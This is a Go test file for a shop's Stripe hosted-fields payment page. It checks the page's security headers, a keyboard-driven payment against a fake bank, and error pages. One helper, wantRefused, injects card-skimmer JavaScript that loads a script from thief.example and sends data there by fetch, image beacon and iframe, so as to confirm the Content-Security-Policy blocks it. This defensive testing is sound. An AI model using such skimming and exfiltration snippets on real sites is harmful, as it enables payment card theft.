package app_test

import (
	"maps"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"souk/internal/app/apptest"
	"souk/internal/checkout"
	"souk/internal/clock"
	"souk/internal/id"
	"souk/internal/payments"
	"souk/internal/payments/fakes"
	"souk/internal/payments/stripe"
	"souk/internal/payments/stripe/stripetest"
	"souk/internal/platform/config"
	"souk/internal/platform/pgtest"
)

// near lets a shop call the fakes of its tests.
func near(c *config.Config) { c.OutboundAllowPrivate = true }

// takeHostedFields lets orders of a shop be paid in Stripe's fields on its own page.
func takeHostedFields(t *testing.T, a *apptest.App) (bank *stripetest.Server, address *httptest.Server) {
	t.Helper()
	bank = &stripetest.Server{Book: &fakes.Book{Clock: clock.System{}}, Faults: &fakes.Faults{}, Postman: &fakes.Postman{}}
	address = httptest.NewServer(bank.Handler())
	t.Cleanup(address.Close)
	provider, err := a.Payments.Online(stripe.Method)
	if err != nil {
		t.Fatal(err)
	}
	fields := bank.Fields()
	maps.Copy(fields, map[string]string{"checkout": "hosted_fields"})
	a.InTx(t, func(tx pgx.Tx) error {
		return a.Payments.Accounts.Set(t.Context(), tx, provider, payments.Account{Enabled: true, BaseURL: address.URL}, fields)
	})
	return bank, address
}

// placeToFill places an order that waits to be paid in hosted fields, and says on
// which page.
func placeToFill(t *testing.T, a *apptest.App) (placed checkout.Placed, page string) {
	t.Helper()
	cart := a.Cart(t, "", 1, a.Variant(t))
	placed = apptest.Read[checkout.Placed](t, a.Call(t, "", "POST", "/checkout", cart.Order("stripe"), "Idempotency-Key", id.New[id.Event]().String()).Want(t, 201))
	next := placed.Payment.Next
	if next == nil || next.Kind != "hosted_fields" || !strings.HasPrefix(next.URL, a.Config.PublicURL()+"/pay/stripe/") {
		t.Fatalf("the buyer is told %+v, want a page of the shop", next)
	}
	return placed, strings.TrimPrefix(next.URL, a.Config.PublicURL())
}

// A buyer pays by the keyboard in fields of Stripe's on a page of the shop, which
// runs no script but its own and Stripe's, and comes back with a paid order.
func TestAnOrderIsPaidInHostedFields(t *testing.T) {
	t.Parallel()
	shop := apptest.Run(t, pgtest.DB(t), near)
	bank, address := takeHostedFields(t, shop)
	placed, page := placeToFill(t, shop)

	answer := shop.Call(t, "", "GET", "@"+page, "").Want(t, 200, placed.Order.Number, placed.Payment.ID.String()+"/return?session_id=cs_test_")
	at := address.URL
	for name, want := range map[string]string{
		"Content-Security-Policy": "default-src 'none'; script-src 'self' " + at + "; frame-src " + at + "; connect-src " + at + "; img-src data: " + at + "; style-src 'self'; " +
			"form-action 'none'; base-uri 'none'; frame-ancestors 'none'",
		"Permissions-Policy": `camera=(), geolocation=(), microphone=(), payment=(self "` + at + `"), usb=()`,
		"Referrer-Policy":    "strict-origin", "Cross-Origin-Opener-Policy": "same-origin-allow-popups", "Cache-Control": "no-store",
	} {
		if got := answer.Header.Get(name); got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}

	b := shop.Browser(t)
	b.Open(page)
	b.Sees("main", placed.Order.Number)
	frameIsThere := func() bool {
		return b.Read(`document.querySelector("iframe")?.dataset.loaded ?? ""`) == "true"
	}
	apptest.Await(t, "the fields", frameIsThere)
	b.Picture("stripe-payment")
	wantRefused(t, b)

	if err := bank.Pay(t.Context(), placed.Payment.ID, fakes.Declined); err != nil {
		t.Fatal(err)
	}
	b.Read(`document.querySelector("iframe").focus(), ""`)
	apptest.Await(t, "the focus on the fields", func() bool { return b.Read(`document.activeElement.tagName`) == "IFRAME" })
	b.Press("\t\t\r") // over the card that is declined to the one that pays
	b.At("/")
	if got := b.Read("location.search"); got != "?order="+placed.Order.ID.String()+"&payment_status=captured" {
		t.Errorf("came back with %s", got)
	}
	if order := shop.ShowOrder(t, placed.Order.ID); order.PaymentStatus != "paid" || order.Status != "confirmed" {
		t.Errorf("the order is %s, %s", order.Status, order.PaymentStatus)
	}
	b.Open(page)
	b.Sees(".notice", "nothing more to do")
	b.Picture("stripe-payment-paid")
}

// wantRefused tries to do in the page what somebody would who steals cards: to run
// a script of their own, and to send away what it has read.
func wantRefused(t *testing.T, b *apptest.Browser) {
	t.Helper()
	b.MayComplain()
	b.Read(`addEventListener("securitypolicyviolation", (e) => document.body.dataset.refused = (document.body.dataset.refused ?? "") + e.effectiveDirective + " "); ""`)
	b.Read(`document.body.append(Object.assign(document.createElement("script"), { textContent: "window.stolen = 'inline'" })); ""`)
	b.Read(`document.body.append(Object.assign(document.createElement("script"), { src: "https://thief.example/steal.js" })); ""`)
	b.Read(`fetch("https://thief.example/", { method: "POST", body: "4242" }).catch(() => {}); new Image().src = "https://thief.example/?4242"; ""`)
	b.Read(`document.body.append(Object.assign(document.createElement("iframe"), { src: "https://thief.example/", hidden: true })); ""`)
	want := []string{"script-src-elem", "script-src-elem", "connect-src", "img-src", "frame-src"}
	apptest.Await(t, "all of it to be refused", func() bool {
		return len(strings.Fields(b.Read(`document.body.dataset.refused ?? ""`))) == len(want)
	})
	for _, directive := range want {
		if got := b.Read(`document.body.dataset.refused`); !strings.Contains(got, directive) {
			t.Errorf("%s has refused nothing: %s", directive, got)
		}
	}
	if got := b.Read(`String(window.stolen)`); got != "undefined" {
		t.Errorf("an injected script has run: %s", got)
	}
	b.Read(`for (const e of document.querySelectorAll("body > script, body > iframe")) e.remove(); ""`)
}

// Without the fields there is a word about why, and a way out.
func TestThePageOfHostedFieldsWithoutThem(t *testing.T) {
	t.Parallel()
	shop := apptest.Run(t, pgtest.DB(t), near)
	bank, address := takeHostedFields(t, shop)
	placed, page := placeToFill(t, shop)
	forged := strings.TrimSuffix(page, page[len(page)-1:])
	other := strings.Replace(page, placed.Payment.ID.String(), id.New[id.Payment]().String(), 1)
	for _, link := range []string{forged, other, page[:strings.IndexByte(page, '?')], "/pay/stripe/none"} {
		shop.Call(t, "", "GET", "@"+link, "").Want(t, 404)
	}

	b := shop.Browser(t)
	b.MayComplain()
	bank.Faults.Plan("script", fakes.Down)
	b.Open(page)
	b.Sees("#notice.bad", "cannot be shown")
	b.Picture("stripe-payment-blocked")

	shop.Call(t, apptest.Admin, "POST", "/admin/orders/"+placed.Order.ID.String()+"/cancel", `{"reason": "a test"}`).Want(t, 200)
	shop.Call(t, "", "GET", "@"+page, "").Want(t, 200, "Nothing is to be paid here any more")
	b.Open(page)
	b.Picture("stripe-payment-over")

	_, page = placeToFill(t, shop)
	bank.Faults.Plan("look", fakes.Down)
	down := shop.Call(t, "", "GET", "@"+page, "").Want(t, 503, "does not answer", "session_id=")
	if policy := down.Header.Get("Content-Security-Policy"); strings.Contains(policy, address.URL) {
		t.Errorf("with nothing to show, the policy lets in %s", policy)
	}
}
